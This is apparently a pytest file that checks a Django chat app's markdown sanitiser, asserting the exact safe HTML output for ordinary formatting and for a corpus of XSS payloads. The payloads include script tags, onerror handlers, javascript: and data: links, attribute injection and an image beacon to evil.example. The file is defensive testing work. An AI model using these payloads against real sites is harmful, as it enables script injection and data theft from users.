"""Markdown to safe HTML: every case asserts the exact output, so a loosened rule shows up."""

import pytest
from django.template import Context, Template

from chat.rendering import markdown_to_html

REL = 'rel="noopener noreferrer nofollow"'

XSS_CORPUS = [
    # Raw HTML in the source is shown as text, never parsed.
    ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("hi <img src=x onerror=alert(1)>", "<p>hi &lt;img src=x onerror=alert(1)&gt;</p>"),
    ("<svg onload=alert(1)><circle/></svg>", "<p>&lt;svg onload=alert(1)&gt;&lt;circle/&gt;&lt;/svg&gt;</p>"),
    (
        "<svg><script>alert(1)</script></svg>",
        "<p>&lt;svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;</p>",
    ),
    ('<a href="javascript:alert(1)">x</a>', '<p>&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;</p>'),
    ('<div onmouseover="alert(1)">x</div>', '<p>&lt;div onmouseover="alert(1)"&gt;x&lt;/div&gt;</p>'),
    ("<iframe src=//evil.example></iframe>", "<p>&lt;iframe src=//evil.example&gt;&lt;/iframe&gt;</p>"),
    ("<style>body{display:none}</style>", "<p>&lt;style&gt;body{display:none}&lt;/style&gt;</p>"),
    ("<!-- hidden -->text", "<p>&lt;!-- hidden --&gt;text</p>"),
    # Dangerous link schemes, in every spelling markdown allows, stay inert text.
    ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>"),
    ("[x](JaVaScRiPt:alert(1))", "<p>[x](JaVaScRiPt:alert(1))</p>"),
    ("[x](java&#115;cript:alert(1))", "<p>[x](javascript:alert(1))</p>"),
    ("[x](<javascript:alert(1)>)", "<p>[x](&lt;javascript:alert(1)&gt;)</p>"),
    ("[x](vbscript:msgbox(1))", "<p>[x](vbscript:msgbox(1))</p>"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "<p>[x](data:text/html;base64,PHNjcmlwdD4=)</p>"),
    ("<javascript:alert(1)>", "<p>&lt;javascript:alert(1)&gt;</p>"),
    ("[x]: javascript:alert(1)\n\n[y][x]", "<p>[x]: javascript:alert(1)</p>\n<p>[y][x]</p>"),
    # Only http, https and mailto survive the sanitiser; other schemes lose their href.
    ("[x](ftp://files.example/a)", f"<p><a {REL}>x</a></p>"),
    # Attribute injection through a link's URL or title.
    ('[x](https://a.example" onmouseover="alert(1))', '<p>[x](https://a.example" onmouseover="alert(1))</p>'),
    (
        '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
        f'<p><a href="https://a.example" title="t&quot; onmouseover=&quot;alert(1)" {REL}>x</a></p>',
    ),
    # Nested tricks: HTML inside link text, markdown inside code.
    (
        "[<img src=x onerror=alert(1)>](https://a.example)",
        f'<p><a href="https://a.example" {REL}>&lt;img src=x onerror=alert(1)&gt;</a></p>',
    ),
    ("`<script>alert(1)</script>`", "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>"),
    ("```html\n<script>alert(1)</script>\n```", "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>"),
    ("**<b onclick=alert(1)>x</b>**", "<p><strong>&lt;b onclick=alert(1)&gt;x&lt;/b&gt;</strong></p>"),
    # Images never load: they become links, and a data: image is not even that.
    (
        "![cat](https://evil.example/pixel.png?q=secret)",
        f'<p><a href="https://evil.example/pixel.png?q=secret" {REL}>cat</a></p>',
    ),
    ("![](https://evil.example/p.png)", f'<p><a href="https://evil.example/p.png" {REL}>image</a></p>'),
    ("![x](data:image/png;base64,iVBORw0KGgo=)", f"<p><a {REL}>x</a></p>"),
    ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "<p>![x](data:image/svg+xml;base64,PHN2Zz4=)</p>"),
    ("![x](javascript:alert(1))", "<p>![x](javascript:alert(1))</p>"),
    # Alt text is text: quotes in it cannot end an attribute.
    (
        '![x" onerror="alert(1)](https://a.example/i.png)',
        f'<p><a href="https://a.example/i.png" {REL}>x" onerror="alert(1)</a></p>',
    ),
]


@pytest.mark.parametrize(("source", "expected"), XSS_CORPUS, ids=[s for s, _ in XSS_CORPUS])
def test_hostile_markdown_renders_to_exactly_the_safe_html(source, expected):
    assert markdown_to_html(source) == expected


FORMATTING = [
    ("**bold** _em_ ~~gone~~ `code`", "<p><strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code></p>"),
    ("# Title\n\n## Sub", "<h1>Title</h1>\n<h2>Sub</h2>"),
    ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
    ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'),
    ("> quoted\n\n---", "<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>"),
    ("line\\\nbreak", "<p>line<br>\nbreak</p>"),
    ("```python\nprint('hi')\n```", "<pre><code>print('hi')\n</code></pre>"),
    (
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>",
    ),
    (
        '[docs](https://example.com/a?b=1&c=2 "The docs")',
        f'<p><a href="https://example.com/a?b=1&amp;c=2" title="The docs" {REL}>docs</a></p>',
    ),
    ("<https://example.com>", f'<p><a href="https://example.com" {REL}>https://example.com</a></p>'),
    ("[mail](mailto:me@example.com)", f'<p><a href="mailto:me@example.com" {REL}>mail</a></p>'),
]


@pytest.mark.parametrize(("source", "expected"), FORMATTING, ids=[s for s, _ in FORMATTING])
def test_ordinary_markdown_keeps_its_formatting(source, expected):
    assert markdown_to_html(source) == expected


def test_aligned_table_cells_lose_their_inline_style():
    # The CSP forbids inline styles; a style attribute would only produce console errors.
    assert "style=" not in markdown_to_html("| a |\n|--:|\n| 1 |")


@pytest.mark.parametrize("empty", ["", None])
def test_nothing_renders_to_nothing(empty):
    assert markdown_to_html(empty) == ""


def test_the_template_filter_outputs_the_sanitised_html_unescaped():
    template = Template("{% load chat_markup %}<div>{{ text|markdown }}</div>")

    html = template.render(Context({"text": "**hi** <script>x</script>"}))

    assert html == "<div><p><strong>hi</strong> &lt;script&gt;x&lt;/script&gt;</p></div>"


def test_pretty_json_indents_valid_arguments_and_keeps_broken_ones():
    template = Template("{% load chat_markup %}{{ args|pretty_json }}")

    pretty = "{\n  &quot;expression&quot;: &quot;6*7&quot;\n}"
    assert template.render(Context({"args": '{"expression":"6*7"}'})) == pretty
    assert template.render(Context({"args": '{"broken": <b>'})) == "{&quot;broken&quot;: &lt;b&gt;"
